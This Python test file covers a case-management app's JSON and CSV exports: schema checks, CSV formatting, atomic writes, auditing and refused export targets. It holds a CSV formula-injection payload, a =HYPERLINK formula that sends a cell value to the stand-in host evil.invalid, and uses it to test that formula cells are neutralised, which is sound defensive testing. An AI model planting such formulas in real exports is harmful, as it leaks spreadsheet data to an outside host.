"""JSON and CSV exports: the schema is generated from the domain model and matches the shipped
file; every export validates against it; CSV files read back as an analyst's spreadsheet would
(BOM, CRLF, labels and codes, ISO dates, formula cells neutralised); the CSV folder appears
complete or not at all; every export is audited with ids and hashes only."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from msp_desktop.domain import enums as E
from msp_desktop.domain.fields import FieldType
from msp_desktop.domain.kinds import KINDS
from msp_desktop.export import csv_export
from msp_desktop.export.json_schema import SCHEMA_FILE, build_schema, schema_text
from msp_desktop.resources import resource_path
from msp_desktop.services import cases, data_export, data_import, records
from msp_desktop.services.demo import generate
from msp_desktop.services.session import Session
from msp_desktop.storage.atomic import FolderNotEmpty
from msp_desktop.storage.keyslots import KdfParams
from tests.unit.conftest import note_payload

HYPERLINK = '=HYPERLINK("http://evil.invalid/?d="&A1,"Click")'
SHIPPED = resource_path(f"schemas/{SCHEMA_FILE}")


def validator() -> jsonschema.Draft202012Validator:
    schema = json.loads(SHIPPED.read_text(encoding="utf-8"))
    return jsonschema.Draft202012Validator(schema, format_checker=data_import.format_checker())


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
    s = Session.create(tmp_path_factory.mktemp("demo") / "v", "pass phrase words",
                       kdf=KdfParams.fast(), author="a.worker", device_name="t")
    generate(s, cases=12, seed=11)
    case_id = cases.open_case(
        s, {"family_name": HYPERLINK, "given_names": "+44 7700 900123", "jurisdiction": "ENG",
            "date_of_birth": "1941-05-06"},
        {"status": "enquiry_in_progress", "opened_at": "2026-01-10"},
    ).state.record_id
    records.create(s, "contact_note", note_payload(
        case_id, facts="@SUM(1+1) and Llŷn, Łódź, اردو", purpose="-2+3"))
    yield s
    s.close()


# ----- the schema ----------------------------------------------------------------------------


def test_shipped_schema_is_the_one_the_domain_model_generates() -> None:
    # Fails when a field or enumeration changes without `python -m
    # msp_desktop.export.json_schema` being run and its output committed.
    assert SHIPPED.read_text(encoding="utf-8") == schema_text()


def test_schema_is_valid_draft_2020_12_and_covers_every_field_and_code() -> None:
    schema = build_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    defs = schema["$defs"]
    for name, kind in KINDS.items():
        props = defs[f"payload.{name}"]["properties"]
        assert set(props) == {f.name for f in kind.fields}
        for f in kind.fields:
            if f.type is FieldType.CHOICE:
                assert f.choices is not None
                ref = props[f.name]["$ref"].split("/")[-1]
                assert defs[ref]["properties"]["code"]["enum"] == [c.code for c in f.choices]
    assert "sac_label" in defs[f"choice.{E.ABUSE_TYPE.ident}"]["properties"]


def test_a_field_added_to_a_kind_changes_the_generated_schema(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import dataclasses

    from msp_desktop.domain.fields import Field

    person = KINDS["person"]
    grown = dataclasses.replace(
        person, fields=(*person.fields, Field("shoe_size", "Shoe size", FieldType.INT)),
        by_name={})
    monkeypatch.setitem(KINDS, "person", grown)
    props = build_schema()["$defs"]["payload.person"]["properties"]
    assert props["shoe_size"]["type"] == "integer"
    assert schema_text() != SHIPPED.read_text(encoding="utf-8")


# ----- JSON ----------------------------------------------------------------------------------


def _export(s: Session, path: Path, history: bool = False) -> dict[str, Any]:
    data_export.export_json(s, path, history=history)
    doc: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return doc


def test_json_export_validates_and_holds_every_current_record(
    demo: Session, tmp_path: Path
) -> None:
    doc = _export(demo, tmp_path / "x.json")
    assert list(validator().iter_errors(doc)) == []
    held = {kind: {r.record_id: r for r in demo.store.records_of_kind(kind)} for kind in KINDS}
    for kind, items in doc["records"].items():
        assert {r["record_id"] for r in items} == set(held[kind])
        for r in items:
            state = held[kind][r["record_id"]]
            assert r["revision_ids"] == list(state.heads)
            assert r["status"]["code"] == state.status
    assert doc["vault_id"] == demo.vault.vault_id and doc["history"] is False
    assert "revisions" not in doc


def test_json_enumerations_carry_code_label_and_sac_label(demo: Session, tmp_path: Path) -> None:
    doc = _export(demo, tmp_path / "x.json")
    risk = doc["records"]["risk_item"][0]["payload"]["abuse_type"]
    assert risk["label"] == E.ABUSE_TYPE.label(risk["code"])
    assert risk["sac_label"] == E.ABUSE_TYPE.sac_label(risk["code"])
    person = next(p for p in doc["records"]["person"] if p["payload"]["family_name"] == HYPERLINK)
    assert person["payload"]["jurisdiction"] == {"code": "ENG", "label": "England"}


def test_json_history_holds_every_revision_with_its_parents(
    demo: Session, tmp_path: Path
) -> None:
    doc = _export(demo, tmp_path / "h.json", history=True)
    assert list(validator().iter_errors(doc)) == []
    revs = [r for items in doc["revisions"].values() for r in items]
    assert len(revs) == demo.store.revision_count()
    some = next(r for r in revs if r["op"] == "finalise")
    stored = demo.store.revision(some["revision_id"])
    assert stored is not None and some["parents"] == list(stored.parents)
    amended = [r for r in revs if r["op"] == "amend"]
    assert amended and all(r["amendment_type"]["code"] in E.AMENDMENT_TYPE for r in amended)
    # The current record lists its amendments and when it was finalised.
    current = {r["record_id"]: r for items in doc["records"].values() for r in items}
    rec = current[amended[0]["record_id"]]
    assert amended[0]["revision_id"] in [a["revision_id"] for a in rec["amendments"]]
    assert rec["finalised"] is True and rec["finalised_at"] is not None


def test_json_export_is_audited_with_ids_counts_and_the_file_hash(
    demo: Session, tmp_path: Path
) -> None:
    before = demo.audit.entries()[-1].seq
    result = data_export.export_json(demo, tmp_path / "x.json")
    (entry,) = [e for e in demo.audit.entries() if e.seq > before]
    assert entry.action == "export" and entry.detail["format"] == "json"
    assert entry.detail["export_id"] == result.export_id
    assert entry.detail["sha256"] == hashlib.sha256((tmp_path / "x.json").read_bytes()).hexdigest()
    assert int(entry.detail["records"]) == sum(demo.store.counts_by_kind().values())
    assert "Llŷn" not in json.dumps(entry.detail) and HYPERLINK not in json.dumps(entry.detail)


# ----- CSV -----------------------------------------------------------------------------------


def _read(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    text = raw.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_folder_reads_back_with_labels_codes_and_iso_dates(
    demo: Session, tmp_path: Path
) -> None:
    result, files = data_export.export_csv(demo, tmp_path / "out")
    names = {f.name for f in files}
    assert {f"{k}.csv" for k in KINDS} <= names and "person.health_conditions.csv" in names
    rows = _read(tmp_path / "out" / "person.csv")
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Record ID", "Case ID", "Status (code)"]
    col = {h: i for i, h in enumerate(header)}
    assert {"Country (code)", "Country", "Date of birth"} <= set(col)
    assert len(body) == len(demo.store.records_of_kind("person"))
    ours = next(r for r in body if r[col["Date of birth"]] == "1941-05-06")
    assert ours[col["Country (code)"]] == "ENG" and ours[col["Country"]] == "England"
    # Record lines end CRLF (csv module); the file has one row per record and a header.
    assert b"\r\n" in (tmp_path / "out" / "person.csv").read_bytes()
    risks = _read(tmp_path / "out" / "risk_item.csv")
    rcol = {h: i for i, h in enumerate(risks[0])}
    first = risks[1]
    assert first[rcol["Type of abuse or neglect (SAC label)"]] == E.ABUSE_TYPE.sac_label(
        first[rcol["Type of abuse or neglect (code)"]])
    assert len(result.sha256) == 64


def test_csv_formula_cells_are_neutralised_including_a_real_hyperlink(
    demo: Session, tmp_path: Path
) -> None:
    data_export.export_csv(demo, tmp_path / "out")
    people = _read(tmp_path / "out" / "person.csv")
    col = {h: i for i, h in enumerate(people[0])}
    ours = next(r for r in people if r[col["Family name"]].endswith(HYPERLINK))
    assert ours[col["Family name"]] == "'" + HYPERLINK
    assert ours[col["Given names"]] == "'+44 7700 900123"
    notes = _read(tmp_path / "out" / "contact_note.csv")
    ncol = {h: i for i, h in enumerate(notes[0])}
    note = next(r for r in notes if "Llŷn" in r[ncol["What happened and what you saw"]])
    assert note[ncol["What happened and what you saw"]] == "'@SUM(1+1) and Llŷn, Łódź, اردو"
    assert note[ncol["Purpose"]] == "'-2+3"
    for path in (tmp_path / "out").iterdir():
        for row in _read(path):
            assert not any(cell.startswith(csv_export.FORMULA_STARTS) for cell in row), path


@settings(max_examples=300)
@given(st.text(max_size=40))
def test_neutralise_never_leaves_a_formula_start_and_keeps_the_text(cell: str) -> None:
    out = csv_export.neutralise(cell)
    assert not out.startswith(csv_export.FORMULA_STARTS)
    assert out in (cell, "'" + cell)
    assert (out != cell) == cell.startswith(csv_export.FORMULA_STARTS)


def test_csv_refuses_a_folder_with_files_in_it_and_leaves_it_alone(
    demo: Session, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "mine.txt").write_text("keep me")
    with pytest.raises(FolderNotEmpty):
        data_export.export_csv(demo, out)
    assert [p.name for p in out.iterdir()] == ["mine.txt"]
    empty = tmp_path / "empty"
    empty.mkdir()
    data_export.export_csv(demo, empty)  # an empty folder made for the export is fine
    assert (empty / "case.csv").is_file()


def test_csv_folder_appears_complete_or_not_at_all(
    demo: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = csv_export.write_table
    calls = 0

    def failing(path: Path, header: Any, rows: Any) -> None:
        nonlocal calls
        calls += 1
        if calls == 5:
            raise OSError(28, "No space left on device")
        real(path, header, rows)

    monkeypatch.setattr(csv_export, "write_table", failing)
    before = demo.audit.entries()[-1].seq
    with pytest.raises(OSError):
        data_export.export_csv(demo, tmp_path / "out")
    assert list(tmp_path.iterdir()) == []  # no folder, no temp folder left behind
    assert demo.audit.entries()[-1].seq == before  # nothing exported, nothing audited


def test_csv_export_is_audited_with_counts_and_a_hash_over_the_files(
    demo: Session, tmp_path: Path
) -> None:
    before = demo.audit.entries()[-1].seq
    result, files = data_export.export_csv(demo, tmp_path / "out")
    (entry,) = [e for e in demo.audit.entries() if e.seq > before]
    assert entry.action == "export" and entry.detail["format"] == "csv"
    assert entry.detail["sha256"] == result.sha256 and entry.detail["files"] == str(len(files))
    assert "Llŷn" not in json.dumps(entry.detail)


def test_no_json_file_or_csv_folder_is_left_when_the_export_cannot_be_audited(
    demo: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("audit write failed")

    before = demo.audit.entries()[-1].seq
    for patched in ("log", "heads.stage"):  # the entry fails; the transaction fails to commit
        owner, _, name = patched.rpartition(".")
        with monkeypatch.context() as m:
            m.setattr(getattr(demo, owner) if owner else demo, name, fails)
            with pytest.raises(RuntimeError, match="audit write failed"):
                data_export.export_json(demo, tmp_path / "all.json")
            with pytest.raises(RuntimeError, match="audit write failed"):
                data_export.export_csv(demo, tmp_path / "csv")
        assert list(tmp_path.iterdir()) == []
    assert demo.audit.entries()[-1].seq == before


# ----- where an export may go (services/export_target.py) -----------------------------------


def test_no_export_writes_into_the_vault_folder_or_over_a_file(
    demo: Session, tmp_path: Path
) -> None:
    from msp_desktop.services import exports, sac_report
    from msp_desktop.services.export_target import ExportTargetRefused

    vault = demo.path
    before = {p.name: p.read_bytes() for p in vault.iterdir() if p.is_file()
              and p.name.endswith(".json")}
    assert "keyslots.json" in before
    case_id = demo.store.records_of_kind("case")[0].record_id
    attempts = [
        lambda: data_export.export_json(demo, vault / "keyslots.json"),
        lambda: data_export.export_json(demo, vault / "keyslots.json", overwrite=True),
        lambda: data_export.export_json(demo, vault / "sub" / ".." / "new.json"),
        lambda: data_export.export_csv(demo, vault / "csv"),
        lambda: data_export.export_csv(demo, vault),
        lambda: exports.case_record_pdf(demo, case_id, vault / "r.pdf"),
        lambda: sac_report.write_report(demo, vault / "sac", year=2025, council="E09000012"),
    ]
    for attempt in attempts:
        with pytest.raises(ExportTargetRefused, match="inside the vault folder"):
            attempt()
    assert {p.name: p.read_bytes() for p in vault.iterdir() if p.is_file()
            and p.name.endswith(".json")} == before
    assert not (vault / "csv").exists() and not (vault / "new.json").exists()

    existing = tmp_path / "mine.json"
    existing.write_text("keep me")
    with pytest.raises(ExportTargetRefused, match="already exists"):
        data_export.export_json(demo, existing)
    with pytest.raises(ExportTargetRefused, match="already exists"):
        exports.case_record_pdf(demo, case_id, existing)
    assert existing.read_text() == "keep me"
    data_export.export_json(demo, existing, overwrite=True)  # asked for: replaced
    assert json.loads(existing.read_text(encoding="utf-8"))["format"] == "msp-desktop-export"

    folder = tmp_path / "a-folder"
    folder.mkdir()
    with pytest.raises(ExportTargetRefused) as caught:
        data_export.export_json(demo, folder, overwrite=True)
    assert str(folder) in str(caught.value) and "is a folder" in str(caught.value)
    assert ".tmp" not in str(caught.value)


_KILLED_EXPORT = """
import sys, time
from pathlib import Path
from msp_desktop.export import csv_export
from msp_desktop.services import data_export
from msp_desktop.services.demo import generate
from msp_desktop.services.session import Session
from msp_desktop.storage.atomic import atomic_writer
from msp_desktop.storage.keyslots import KdfParams

s = Session.create(Path(sys.argv[1]), "pass phrase words", kdf=KdfParams.fast(),
                   author="a.worker", device_name="t")
generate(s, cases=2, seed=3)
calls = []
original = csv_export.write_table

def slow(path, header, rows):
    calls.append(path)
    if len(calls) == 2:  # the first file done, the second half-written: then killed
        with atomic_writer(path) as fh:
            fh.write(b"Record ID,Family name\\r\\n1,Rees\\r\\n")
            fh.flush()
            print("WRITING", flush=True)
            time.sleep(120)
    original(path, header, rows)

csv_export.write_table = slow
data_export.export_csv(s, Path(sys.argv[2]))
"""


def test_a_csv_export_killed_part_way_leaves_plaintext_the_next_export_removes(
    demo: Session, tmp_path: Path
) -> None:
    import os
    import signal
    import subprocess
    import sys

    out = tmp_path / "out"
    proc = subprocess.Popen(
        [sys.executable, "-c", _KILLED_EXPORT, str(tmp_path / "v"), str(out)],
        stdout=subprocess.PIPE, text=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])})
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline().strip() == "WRITING"
        os.kill(proc.pid, signal.SIGKILL)  # kill -9, mid-export
    finally:
        proc.wait(timeout=60)
    (left,) = [p for p in tmp_path.iterdir() if p.name.startswith(".out.")]
    inside = sorted(p.name for p in left.iterdir())
    assert len(inside) == 2 and any(n.startswith(".") and n.endswith(".tmp") for n in inside)
    assert not out.exists()
    # Look-alikes that are not ours to remove stay.
    users = tmp_path / ".out.abcdefgh.tmp"
    users.mkdir()
    (users / "sub").mkdir()
    other = tmp_path / ".other.abcdefgh.tmp"
    other.write_text("not this export's")

    data_export.export_csv(demo, out)
    assert (out / "case.csv").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [".other.abcdefgh.tmp", ".out.abcdefgh.tmp", "out", "v"])
